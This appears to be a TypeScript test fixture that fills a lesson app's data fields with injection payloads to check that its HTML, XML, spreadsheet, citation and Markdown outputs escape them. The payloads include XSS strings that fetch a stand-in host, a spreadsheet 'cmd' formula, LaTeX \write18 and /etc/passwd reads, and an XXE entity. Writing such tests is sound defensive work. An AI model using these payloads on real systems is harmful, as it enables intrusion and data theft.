/** Lawful data in which every text is an attack: on code, markup, formulas, or the syntax of an output file. */
import { EMPTY, LONGEST_TITLE, type Lesson } from '../../src/lesson/lesson.ts';

/** Nothing may ask this host for anything. */
const HOST = 'evil.invalid';
/** What sets this field of `window` has run. */
export const RAN = '__pwn';
const run = `window.${RAN}=1`;

/** Texts that mean something in one of the languages that the program writes. */
export const PAYLOADS: readonly string[] = [
  `</script><script>${run};fetch('https://${HOST}/s')</script>`,
  `"><img src=https://${HOST}/i onerror=${run}>`,
  `'><svg onload=${run}><image href="https://${HOST}/v"/></svg>`,
  `]]><x/><!-- --!><script>${run}</script>--><![CDATA[`,
  `</style><style>@import url(https://${HOST}/c);*{background:url(https://${HOST}/b)}</style>`,
  `</title></textarea></noscript></template><iframe src=javascript:parent.${RAN}=1></iframe>`,
  `" autofocus onfocus=${run} onmouseover="${run}" style="background:url(https://${HOST}/a)" x='`,
  `{{constructor.constructor('${run}')()}} \${${run}} <%= 7*7 %> {% include x %} #{1} @{1}`,
  `=HYPERLINK("https://${HOST}/x";"a");=1+1,@SUM(1) -2|+cmd|' /C calc'!A0`,
  `}}, note = {x}, url = {https://${HOST}} } @comment{ \\input{/etc/passwd} %n \\write18{id} $x$`,
  `[a](javascript:${run}) ![b](https://${HOST}/m) <javascript:alert(1)> \`\`\` | # - * _ ~ <b>x</b>`,
  `&lt;script&gt;${run}&lt;/script&gt; &#x3c;img src=x&#x3e; &quot; &amp; &nosuch; %3Cscript%3E`,
  `';${run};//\\';${run};//"; */ ${run} /* \\u0022 \\x3C \\`,
  `TY  - JOUR ER  - UR  - https://${HOST}/r --> <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `{value} {detail} $& $1 $\` $' %{value} %s __proto__ constructor toString`,
  `javascript:${run}`,
  `data:text/html,<script>parent.${RAN}=1</script>`,
  `" ]; x [URL="javascript:${run}", label=<<b>x</b>>]; click a "javascript:${run}" --> end %%{init: {"securityLevel":"loose"}}%%`,
];

/** An address as the format allows it, which would leave an attribute or a field that does not hold it. */
const ADDRESS = `https://${HOST}/p?a="><script>${run}</script>&b='onmouseover='x'#"onclick="${run}"//<>\`{}\\^|`;

/** Fields whose texts are no words: ids, codes, references to them, and terms of the format. */
const NO_WORDS: ReadonlySet<string> = new Set([
  ...['id', 'code', 'language', 'kind', 'basis', 'dateBasis', 'row', 'column', 'act', 'actor'],
  ...[
    'source',
    'evidence',
    'against',
    'doubt',
    'a',
    'b',
    'consent',
    'in',
    'issue',
    'story',
    'ends',
    'from',
    'to',
    'ids',
    'date',
  ],
]);

/**
 * The scenario in `text`, a lawful file, with a payload and a number of its own in the place of every text that is
 * words, so that a field which the format gets later is among them. Gives the text of a lawful file.
 */
export function hostileScenario(text: string): string {
  let at = 0;
  const payload = () => `${PAYLOADS[at % PAYLOADS.length] ?? ''} T${(at += 1)}`;
  /** A speaker has the same payload everywhere: claims count by it. */
  const speakers = new Map<string, string>();
  const speaker = (name: string): string => {
    const same = speakers.get(name) ?? payload();
    speakers.set(name, same);
    return same;
  };
  const claim = (value: unknown): unknown =>
    JSON.parse(JSON.stringify(value), (field, part: unknown) =>
      field === 'speaker' && typeof part === 'string' ? speaker(part) : part,
    );

  function changed(part: unknown, field: string, isReference: boolean): unknown {
    // A short label has no room for more than the opening of a tag.
    if (field === 'short' && typeof part === 'string') return `"><img x=' T${(at += 1)}`;
    if (field === 'speaker' && typeof part === 'string') return speaker(part);
    if (typeof part === 'string')
      return isReference ? part : field === 'url' ? ADDRESS + String((at += 1)) : payload();
    if (Array.isArray(part)) return part.map((item: unknown) => changed(item, field, isReference));
    if (typeof part !== 'object' || part === null) return part;
    const fields: Record<string, unknown> = {};
    for (const [name, value] of Object.entries(part)) {
      // What a quotation is held to is the length of its words; the text of its source is gone.
      if (['sha256', 'characters', 'paragraphs', 'start', 'end'].includes(name)) continue;
      const refers = NO_WORDS.has(name) || (name === 'question' && field === 'tensions');
      fields[name] = name === 'sets' ? value : name === 'claim' ? claim(value) : changed(value, name, refers);
    }
    if (typeof fields['quote'] === 'string')
      Object.assign(fields, {
        start: 0,
        end: [...fields['quote']].length,
        hedges: [fields['quote'].slice(2, 9)],
      });
    return fields;
  }
  return JSON.stringify(changed(JSON.parse(text), '', false));
}

/** A lesson whose texts are all payloads, each as long as may be. */
export const hostileLesson: Lesson = {
  ...EMPTY,
  title: `${PAYLOADS[1] ?? ''}]]>`.slice(0, LONGEST_TITLE),
  intro: `${PAYLOADS[0] ?? ''}\n${PAYLOADS[3] ?? ''}\n${PAYLOADS[10] ?? ''}\n${PAYLOADS[7] ?? ''}`,
  tasks: PAYLOADS.map((prompt) => ({ kind: 'text', at: 'start', prompt })),
};

/** A reply to each of its tasks, and the name of who gives them. */
export const hostileReplies: ReadonlyMap<number, string> = new Map(
  PAYLOADS.map((_, at, all) => [at, `${all.at(-1 - at) ?? ''}\n=1+1;=cmd`]),
);
export const hostileLabel = `"><img src=x onerror=${run}>`;
